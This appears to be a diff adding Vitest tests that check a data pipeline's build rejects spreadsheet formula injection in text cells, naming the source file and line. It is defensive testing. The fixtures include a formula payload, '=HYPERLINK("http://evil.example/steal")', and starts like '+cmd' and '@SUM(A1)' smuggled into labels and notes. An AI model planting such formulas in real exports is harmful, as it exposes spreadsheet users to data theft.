@@ -1,0 +1,106 @@
+import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { build } from '../../../pipeline/build.js';
+import { PipelineError } from '../../../pipeline/errors.js';
+import { findFormulaCells, locateText } from '../../../pipeline/05-validate/index.js';
+import { projectPaths, type ProjectPaths } from '../../../pipeline/paths.js';
+import { SchemaRegistry } from '../../../pipeline/schemas.js';
+import { editRawText, makeFixtureProject } from '../../helpers/fixture-project.js';
+
+const schemas = new SchemaRegistry(projectPaths().schemas);
+const HYPERLINK = '=HYPERLINK("http://evil.example/steal")';
+
+/** Every byte of dist/ and datapackage.json, by path. */
+function publishedBytes(root: string): Map<string, Buffer> {
+  const dist = join(root, 'dist');
+  return new Map([
+    ...readdirSync(dist).sort().map((name): [string, Buffer] => [`dist/${name}`, readFileSync(join(dist, name))]),
+    ['datapackage.json', readFileSync(join(root, 'datapackage.json'))],
+  ]);
+}
+
+function buildError(edit: (paths: ProjectPaths) => void): { error: PipelineError; unchanged: boolean } {
+  const fixture = makeFixtureProject();
+  edit(fixture);
+  const before = publishedBytes(fixture.root);
+  let error: unknown;
+  try {
+    build({ paths: fixture });
+  } catch (caught) {
+    error = caught;
+  }
+  expect(error).toBeInstanceOf(PipelineError);
+  const after = publishedBytes(fixture.root);
+  return { error: error as PipelineError, unchanged: after.size === before.size && [...before].every(([path, bytes]) => after.get(path)?.equals(bytes)) };
+}
+
+function editJson(paths: ProjectPaths, file: string, edit: (text: string) => string): void {
+  const path = join(paths.root, file);
+  const text = readFileSync(path, 'utf8');
+  const edited = edit(text);
+  if (edited === text) throw new Error('the edit changed nothing');
+  writeFileSync(path, edited);
+}
+
+describe('a text cell a spreadsheet would run as a formula', () => {
+  it('stops the build when a printed row label is one, naming the raw text line, with dist/ untouched', () => {
+    const { error, unchanged } = buildError((paths) => editRawText(paths, 'korea-commission-2005', (text) => text.replace('Wholesale non-food products, including animal feed 39,543.1', `${HYPERLINK} non-food products 39,543.1`)));
+    expect(error.code).toBe('CELL_FORMULA');
+    expect(error.context).toMatchObject({ file: 'raw/korea-commission-2005.txt', line: 1951, column: 1, seen: `${HYPERLINK} non-food products` });
+    expect(error.message).toContain('observations korea-commission-2005@');
+    expect(unchanged).toBe(true);
+  });
+
+  it("stops the build when an annotation's event description is one, naming the annotation file and line", () => {
+    const { error, unchanged } = buildError((paths) => editJson(paths, 'pipeline/02-extract/annotations/china-2023.json', (text) => text.replace('"description": "Mexico begins recognizing', `"description": ${JSON.stringify(`${HYPERLINK} Mexico begins recognizing`).slice(0, -1)}`)));
+    expect(error.code).toBe('CELL_FORMULA');
+    expect(error.context).toMatchObject({ file: 'pipeline/02-extract/annotations/china-2023.json', line: 32, column: 98 });
+    expect(error.context.seen).toMatch(/^=HYPERLINK\("http:\/\/evil\.example\/steal"\) Mexico begins/);
+    expect(error.message).toContain('events china-2023@');
+    expect(unchanged).toBe(true);
+  });
+
+  it("stops the build when a recipe's note starts with a tab and a formula, naming the recipe file and line", () => {
+    const { error, unchanged } = buildError((paths) => editJson(paths, 'pipeline/02-extract/recipes/korea-commission-2005.json', (text) => text.replace('"note": "The Asia-Pacific region', '"note": "\\t@SUM(A1) The Asia-Pacific region')));
+    expect(error.code).toBe('CELL_FORMULA');
+    expect(error.context).toMatchObject({ file: 'pipeline/02-extract/recipes/korea-commission-2005.json', line: 93, column: 90 });
+    expect(error.context.seen).toMatch(/^\t@SUM\(A1\) The Asia-Pacific region/);
+    expect(unchanged).toBe(true);
+  });
+});
+
+describe('findFormulaCells', () => {
+  const observation = (raw: string, note: string | null = null) => ({ obs_id: 'x@1', source_id: 'x', raw, note, value: -5, line: 1 });
+  const found = (rows: object[], name = 'observations') => findFormulaCells(schemas, new Map([[name, rows]])).map((cell) => `${cell.field}=${JSON.stringify(cell.text)}`);
+
+  it('lets a signed number begin a text cell only in a column whose pattern declares numbers', () => {
+    expect(found([observation('-621.5'), observation('+12,444'), observation('1,060.6'), observation('one-third')])).toEqual([]);
+    expect(found([observation('-621.5', '-621.5')])).toEqual(['note="-621.5"']);
+    expect(found([observation('-1+1'), observation('-cmd')])).toEqual(['raw="-1+1"', 'raw="-cmd"']);
+  });
+
+  it('flags every formula start in any text field, and no number field', () => {
+    const starts = ['=1+1', '+cmd', '-cmd', '@SUM(A1)', '\tx', '\rx'];
+    expect(found(starts.map((start) => observation('5', start)))).toEqual(starts.map((start) => `note=${JSON.stringify(start)}`));
+    expect(found([{ id: 'x', label: 'Trade, share', description: 'a − b = c' }], 'indicators')).toEqual([]);
+  });
+});
+
+describe('locateText', () => {
+  const inputs = [
+    { file: 'raw/a.txt', lines: ['intro', 'see =X(1) here'] },
+    { file: 'raw/b.txt', lines: ['=X(1) label 4.5'] },
+    { file: 'pipeline/02-extract/annotations/a.json', lines: ['{', '  "description": "=Y(\\"q\\") more"', '}'] },
+  ];
+
+  it("finds a printed word at a word start, in the row's own source first", () => {
+    expect(locateText('=X(1) label', inputs, 'b')).toEqual({ file: 'raw/b.txt', line: 1, column: 1 });
+    expect(locateText('=X(1) label', inputs, 'a')).toEqual({ file: 'raw/a.txt', line: 2, column: 5 });
+  });
+
+  it('finds words written in a JSON input as the start of a string literal', () => {
+    expect(locateText('=Y("q") more', inputs, 'a')).toEqual({ file: 'pipeline/02-extract/annotations/a.json', line: 2, column: 19 });
+    expect(locateText('=Z', inputs, null)).toBeNull();
+  });
+});
